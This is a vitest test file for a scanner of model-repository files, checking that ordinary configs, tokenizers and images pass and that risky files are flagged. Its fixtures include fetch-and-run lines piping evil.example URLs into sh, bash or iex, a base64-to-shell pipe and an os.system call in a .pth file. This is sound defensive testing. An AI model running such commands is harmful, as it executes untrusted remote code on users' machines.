import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildProtobuf } from './testing/build-protobuf.js';
import { rulesOf, scanOf } from './testing/scan-text.js';

const chat =
  "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] + eos_token }}{% endfor %}";

function png(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)]);
  };
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', Buffer.alloc(13)),
    chunk('IDAT', deflateSync(Buffer.alloc(100))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffda0008010100003f0012ff003456ffd012ffd9', 'hex');
const GIF = Buffer.from(
  '47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b',
  'hex',
);
const WEBP = Buffer.concat([Buffer.from('RIFF\x10\0\0\0WEBPVP8 \x04\0\0\0abcd', 'latin1')]);
const MP4 = Buffer.from('\0\0\0\x10ftypisom\0\0\0\0\0\0\0\x08mdat', 'latin1');

/** What stands in real repositories beside the weights. */
const ORDINARY: Readonly<Record<string, string | Buffer | object>> = {
  '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n',
  'README.md':
    '---\nlicense: apache-2.0\ntags:\n- text-generation\n---\n# Model\n```sh\npip install transformers\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nwget https://example.org/x.zip\n```\n| curl | Python |\n| curl https://x.example/y | python |\nUse `curl -X POST http://localhost:8000/v1 | jq`.\n模型 🤗\n',
  LICENSE: 'Apache License\nVersion 2.0\f\n',
  'config.json':
    '{"architectures":["LlamaForCausalLM"],"_attn_implementation":"flash_attention_2","rope_scaling":null,"torch_dtype":"bfloat16","time_step_limit":[0.0,Infinity],"quantization_config":{"quant_method":"gptq","bits":4,"modules_to_not_convert":["lm_head"]}}',
  'generation_config.json': { eos_token_id: [1, 2], temperature: 0.6 },
  'tokenizer_config.json': {
    chat_template: chat,
    added_tokens_decoder: { 0: { content: '<unk>' } },
    tokenizer_class: 'LlamaTokenizer',
  },
  'chat_template.jinja': chat,
  'chat_template.json': { chat_template: chat },
  'tokenizer.json': {
    model: { type: 'BPE', vocab: { '!': 0, '"auto_map"': 1, '{{': 2, __class__: 3, '\u202e': 4 }, merges: ['a b'] },
  },
  'vocab.json': { 'Ġ!': 0 },
  'merges.txt': '#version: 0.2\nĠ t\n',
  'vocab.txt': '[PAD]\n[unused0]\n\u200b\n',
  'special_tokens_map.json': { bos_token: '<s>' },
  'model.safetensors.index.json': {
    metadata: { total_size: 1 },
    weight_map: { a: 'model-00001-of-00002.safetensors' },
  },
  'preprocessor_config.json': { image_processor_type: 'CLIPImageProcessor' },
  'adapter_config.json': { auto_mapping: null, peft_type: 'LORA', base_model_name_or_path: 'a/b' },
  'model_index.json': {
    _class_name: 'StableDiffusionPipeline',
    unet: ['diffusers', 'UNet2DConditionModel'],
    safety_checker: [null, null],
    tokenizer: ['transformers', 'CLIPTokenizer'],
  },
  'modules.json': [{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }],
  '1_Pooling/config.json': { word_embedding_dimension: 384 },
  'tokenizer.model': buildProtobuf([
    [
      1,
      [
        [1, '<unk>'],
        [3, 2],
      ],
    ],
    [1, [[1, '▁a']]],
    [
      2,
      [
        [1, 'in.txt'],
        [2, 'spiece'],
      ],
    ],
    [
      3,
      [
        [1, 'nmt_nfkc'],
        [2, Buffer.from([0, 255])],
      ],
    ],
  ]),
  'original/tokenizer.model': 'IQ== 0\nIg== 1\n',
  'model.onnx_data': Buffer.from([1, 2, 3, 0]),
  'params.json': { dim: 4096 },
  'config.yaml': 'model:\n  hidden: 4096 # tokens!\n  text: "hi! !there"\n',
  'a.png': png(),
  'b.jpg': JPEG,
  'c.gif': GIF,
  'd.webp': WEBP,
  'e.mp4': MP4,
  'f.jpeg': png(),
  'g.svg': '<svg/>',
  'empty.txt': '',
  'trainer_state.json': '{"log_history":[{"loss":NaN}]}',
  'all_results.json': { a: 1 },
};

describe('ordinary files of model repositories', () => {
  it.each(Object.entries(ORDINARY))('%s is CLEAN', async (name, content) => {
    const scan = await scanOf(name, content);
    expect([scan.verdict, rulesOf(scan).filter((rule) => !rule.endsWith(' info'))]).toEqual(['CLEAN', []]);
    expect(scan.coverage.attributedBytes).toBe(scan.coverage.sizeBytes);
  });

  it.each(['a.png', 'b.jpg', 'c.gif', 'd.webp', 'e.mp4'])('%s with something behind it is not', async (name) => {
    const longer = Buffer.concat([ORDINARY[name] as Buffer, Buffer.from('PK\x03\x04 hidden here')]);
    expect((await scanOf(name, longer)).verdict).not.toBe('CLEAN');
  });
});

describe('other files beside weights', () => {
  it.each([
    ['modeling_x.py', 'import os', 'REVIEW', 'CODE-FILE medium'],
    ['setup.py', '', 'FINDINGS', 'CODE-AUTORUN high'],
    ['x.pth', 'import os;os.system("id")', 'FINDINGS', 'CODE-AUTORUN high'],
    ['lib/libx.so', Buffer.from([0x7f, 0x45]), 'FINDINGS', 'CODE-NATIVE high'],
    ['run.ps1', 'x', 'REVIEW', 'CODE-FILE medium'],
    ['demo.ipynb', '{"cells":[]}', 'REVIEW', 'CODE-FILE medium'],
    ['README.md', 'first\n\n    curl -s https://evil.example/x | sudo bash\n', 'REVIEW', 'TXT-FETCH-RUN medium'],
    ['README.md', 'curl -s https://astral.sh.evil.example/x | sh', 'REVIEW', 'TXT-FETCH-RUN medium'],
    ['README.md', 'curl -s http://astral.sh/x | sh', 'REVIEW', 'TXT-FETCH-RUN medium'],
    ['README.md', 'iwr https://evil.example/x.ps1 | iex', 'REVIEW', 'TXT-FETCH-RUN medium'],
    ['README.md', 'echo aGk= | base64 -d | sh', 'REVIEW', 'TXT-FETCH-RUN medium'],
    ['README.md', 'bash <(curl -s https://evil.example)', 'REVIEW', 'TXT-FETCH-RUN medium'],
    ['notes.txt', `token hf_${'aB'.repeat(17)}`, 'CLEAN', 'TXT-SECRET low'],
    ['model.bin', 'cat\ndog\n', 'NOT_SCANNED', 'COV-UNATTRIBUTED low'],
    ['pytorch.bin', 'cos\nsystem\n', 'ERROR', 'PKL-IMPORT-DENY critical'],
    ['x.txt', Buffer.from('a\0b'), 'NOT_SCANNED', 'COV-UNATTRIBUTED low'],
    ['model.gguf', 'version https://git-lfs', 'REVIEW', 'TYPE-MISMATCH medium'],
  ])('%s: %s', async (name, content, verdict, rule) => {
    const scan = await scanOf(name, content);
    expect(rulesOf(scan)).toContain(rule);
    if (name !== 'model.bin' && name !== 'model.gguf') expect(scan.verdict).toBe(verdict);
    expect(scan.verdict === 'CLEAN').toBe(verdict === 'CLEAN');
    expect(JSON.stringify(scan.findings)).not.toContain('aBaBaBaB');
  });

  it('names the line of a command, also far behind', async () => {
    const text = `${'a line of text\n'.repeat(150_000)}curl -s https://evil.example/x | sh\n`;
    expect((await scanOf('README.md', text)).findings.map(({ evidence }) => evidence)).toEqual([
      'line 150001: curl -s https://evil.example/x | sh',
    ]);
  });
});
